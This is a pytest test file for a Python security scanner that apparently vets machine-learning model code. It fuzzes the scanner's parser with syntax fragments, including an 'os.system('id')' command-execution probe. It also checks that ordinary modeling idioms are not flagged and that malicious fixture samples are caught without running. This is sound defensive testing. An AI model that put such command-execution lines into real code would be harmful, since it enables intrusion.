_NEW_SYNTAX = st.sampled_from(["type X = int\n", "def f[T](x: T) -> T: ...\n", "x = f\"{'a' \"b\"}\"\n",
                               "except A, B:\n", "t'x'\n", "class C[T]:\n", "    pass\n", "import os\n",
                               "os.system('id')\n", "try:\n", "else:\n", "@d\n", "(\n", ")\n", "\"\"\"\n", "\x00"])


@pytest.mark.timeout(HANG_TIMEOUT)
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_NEW_SYNTAX, max_size=40).map("".join))
def test_recovering_parser_never_raises(code: str) -> None:
    try:
        found(code)
    except (FormatError, LimitExceeded):
        pass


# -- ordinary modeling code stays quiet -------------------------------------------------------------------------------

def test_realistic_modeling_file_raises_nothing_at_medium_or_above() -> None:
    findings = found(MODELING_REALISTIC)
    assert [f for f in findings if f.severity >= M] == [], [(f.rule_id, f.message) for f in findings]


@pytest.mark.parametrize("code", [
    "import os\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\n",
    "import torch\ntorch.backends.cudnn.benchmark = True\n",
    "import socket\nhost = socket.gethostbyname(socket.gethostname())\n",
    "import subprocess\ntry:\n    pass\nexcept subprocess.CalledProcessError:\n    pass\n",
    "import sys, os\nsys.path.insert(0, os.path.dirname(__file__))\n",
    "import os\ndef f(cache_dir):\n    os.makedirs(os.path.expanduser(cache_dir), exist_ok=True)\n",
    "def f(model):\n    model.eval()\n    return model\n",
    "from subprocess import PIPE, CalledProcessError\nfrom os import path, environ\n",
    "import os\ndef f():\n    return [k for k in os.environ if k.startswith('NCCL_')]\n",
    "import socket\ndef f():\n    return socket.socket\n",
    "import numpy as np\nnp.float = float\n",
    "from transformers import AutoConfig\nfrom .modeling_tiny import TinyModel, TinyConfig\n"
    "AutoConfig.register('tiny', TinyConfig)\n",
])
def test_everyday_idioms_are_not_medium(code: str) -> None:
    assert [f for f in found(code) if f.severity >= M] == [], code


# -- the corpus samples of tests/fixtures/python_files.py ---------------------------------------------------------------

def test_python_file_samples_are_caught_and_never_run(tmp_path: Path, marker_dir: Path) -> None:
    import aivet

    samples = build(tmp_path, marker_dir)
    assert len(samples) >= 15
    misses = [unmet_expectation(s, aivet.scan(s.path)) for s in samples]
    assert not any(misses), "\n".join(m for m in misses if m)
    assert list(marker_dir.glob("PWNED-py-*")) == []
